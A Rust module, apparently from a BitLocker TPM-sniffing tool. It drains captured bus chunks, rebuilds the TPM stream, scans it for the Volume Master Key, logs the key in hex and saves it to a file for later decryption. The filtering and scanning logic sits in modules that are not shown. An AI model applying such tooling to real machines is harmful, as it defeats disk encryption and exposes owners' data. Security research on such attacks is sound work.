//! Extraction loop - drains the chunk queue, rebuilds the TPM stream and
//! persists the VMK once it shows up

use std::path::PathBuf;
use std::sync::Arc;
use std::time::{Duration, Instant};

use tracing::{debug, info, warn};

use super::filter::StreamExtractor;
use super::scanner::PatternScanner;
use crate::capture::{CaptureStats, ChunkReceiver, PopOutcome, RawChunk};
use crate::completion::CompletionFlag;
use crate::error::CaptureError;
use crate::key::KeyPayload;

/// Owns the leftover buffer, the clean stream and the scanner state
pub struct ExtractorRunner {
    extractor: StreamExtractor,
    scanner: PatternScanner,
    clean: Vec<u8>,
    done: CompletionFlag,
    stats: Arc<CaptureStats>,
    key_path: PathBuf,
    poll_interval: Duration,
    chunks_processed: u64,
}

impl ExtractorRunner {
    pub fn new(
        done: CompletionFlag,
        stats: Arc<CaptureStats>,
        key_path: PathBuf,
        poll_interval: Duration,
    ) -> Self {
        Self {
            extractor: StreamExtractor::new(),
            scanner: PatternScanner::new(),
            clean: Vec::new(),
            done,
            stats,
            key_path,
            poll_interval,
            chunks_processed: 0,
        }
    }

    /// Pop chunks until the key is found, the flag is set elsewhere, or the
    /// capture side goes away
    pub fn run(mut self, queue: ChunkReceiver) -> Result<Option<KeyPayload>, CaptureError> {
        info!("Start sniffing");

        let mut last_progress = Instant::now();

        while !self.done.is_set() {
            // Drain the backlog without waiting; block only when it is empty
            let outcome = match queue.pop() {
                PopOutcome::Empty => queue.pop_timeout(self.poll_interval),
                outcome => outcome,
            };

            match outcome {
                PopOutcome::Chunk(chunk) => {
                    if let Some(key) = self.process_chunk(&chunk)? {
                        return Ok(Some(key));
                    }
                }
                PopOutcome::Empty => {}
                PopOutcome::Closed => {
                    warn!("Chunk queue closed before the VMK was found");
                    break;
                }
            }

            if last_progress.elapsed() >= Duration::from_secs(5) {
                info!(
                    "[Extract] Chunks: {} | Backlog: {} | TPM bytes: {} | Leftover: {} | State: {:?}",
                    self.chunks_processed,
                    queue.backlog(),
                    self.stats.get_clean_bytes(),
                    self.extractor.leftover().len(),
                    self.scanner.state()
                );
                last_progress = Instant::now();
            }
        }

        Ok(None)
    }

    /// Feed one chunk through filter and scanner. Returns the key on the
    /// chunk that completes it; afterwards every chunk is ignored.
    pub fn process_chunk(&mut self, chunk: &RawChunk) -> Result<Option<KeyPayload>, CaptureError> {
        if self.scanner.state().is_complete() {
            return Ok(None);
        }

        self.chunks_processed += 1;
        let added = self.extractor.process_chunk(chunk.as_bytes(), &mut self.clean);
        if added == 0 {
            return Ok(None);
        }
        self.stats.record_clean(added);
        debug!("Received {} TPM bytes ({} total)", added, self.clean.len());

        let Some(key) = self.scanner.scan(&self.clean) else {
            return Ok(None);
        };

        self.done.set();
        info!("Found BitLocker VMK: {}", key.to_hex());

        key.persist(&self.key_path)?;
        info!(
            "Created VMK file '{}' for use with fvek-decrypt",
            self.key_path.display()
        );

        Ok(Some(key))
    }
}
